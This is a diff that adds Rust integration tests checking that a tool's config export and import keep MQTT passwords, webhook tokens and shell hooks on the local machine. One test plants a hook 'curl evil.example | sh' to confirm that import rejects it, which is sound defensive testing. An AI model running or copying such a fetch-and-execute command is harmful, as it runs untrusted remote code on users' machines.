@@ -0,0 +1,112 @@
+// Runs `bclicker export` and `bclicker import` on configs in a scratch
+// directory and checks what the files carry between machines
+use std::{fs, path::PathBuf, process::Command};
+
+// A fresh directory holding this config, removed when dropped
+struct Scratch(PathBuf);
+
+impl Scratch {
+    fn new(name: &str, config: &str) -> Self {
+        let dir =
+            std::env::temp_dir().join(format!("bclicker-transfer-{}-{}", name, std::process::id()));
+        let _ = fs::remove_dir_all(&dir);
+        fs::create_dir_all(&dir).unwrap();
+        fs::write(dir.join("bclicker_config.toml"), config).unwrap();
+        Self(dir)
+    }
+
+    fn bclicker(&self, args: &[&str]) {
+        let output = Command::new(env!("CARGO_BIN_EXE_bclicker"))
+            .args(args)
+            .current_dir(&self.0)
+            .output()
+            .unwrap();
+        assert!(
+            output.status.success(),
+            "bclicker {}: {}",
+            args.join(" "),
+            String::from_utf8_lossy(&output.stderr)
+        );
+    }
+
+    fn read(&self, file: &str) -> String {
+        fs::read_to_string(self.0.join(file)).unwrap()
+    }
+}
+
+impl Drop for Scratch {
+    fn drop(&mut self) {
+        let _ = fs::remove_dir_all(&self.0);
+    }
+}
+
+const MQTT: &str = r#"
+[mqtt]
+host = "broker.lan"
+username = "bclicker"
+password = "hunter2-secret"
+"#;
+
+const HOOKS: &str = r#"
+[hooks]
+on_start = "echo local"
+"#;
+
+const WEBHOOK: &str = r#"
+[[webhooks]]
+url = "https://discord.com/api/webhooks/123/token-secret"
+"#;
+
+#[test]
+fn export_leaves_out_the_mqtt_password() {
+    let scratch = Scratch::new("mqtt", MQTT);
+    scratch.bclicker(&["export", "shared.toml"]);
+
+    let exported = scratch.read("shared.toml");
+    assert!(exported.contains("broker.lan"));
+    assert!(!exported.contains("hunter2-secret"), "{}", exported);
+}
+
+#[test]
+fn import_keeps_the_local_mqtt_password() {
+    let scratch = Scratch::new("mqtt-import", MQTT);
+    let shared = MQTT
+        .replace("broker.lan", "other.lan")
+        .replace("password = \"hunter2-secret\"\n", "");
+    fs::write(scratch.0.join("shared.toml"), shared).unwrap();
+    scratch.bclicker(&["import", "shared.toml", "--yes"]);
+
+    let config = scratch.read("bclicker_config.toml");
+    assert!(config.contains("other.lan"), "{}", config);
+    assert!(config.contains("hunter2-secret"), "{}", config);
+}
+
+#[test]
+fn hooks_are_neither_exported_nor_imported() {
+    let scratch = Scratch::new("hooks", HOOKS);
+    scratch.bclicker(&["export", "shared.toml"]);
+    assert!(!scratch.read("shared.toml").contains("echo local"));
+
+    let shared = HOOKS.replace("echo local", "curl evil.example | sh");
+    fs::write(scratch.0.join("shared.toml"), shared).unwrap();
+    scratch.bclicker(&["import", "shared.toml", "--yes"]);
+
+    let config = scratch.read("bclicker_config.toml");
+    assert!(config.contains("echo local"), "{}", config);
+    assert!(!config.contains("evil.example"), "{}", config);
+}
+
+#[test]
+fn webhooks_stay_local() {
+    let scratch = Scratch::new("webhooks", WEBHOOK);
+    scratch.bclicker(&["export", "shared.toml"]);
+    assert!(!scratch.read("shared.toml").contains("token-secret"));
+
+    fs::write(scratch.0.join("shared.toml"), "cps_presets = [5.0]\n").unwrap();
+    scratch.bclicker(&["import", "shared.toml", "--yes"]);
+    assert!(
+        scratch
+            .read("bclicker_config.toml")
+            .contains("token-secret")
+    );
+}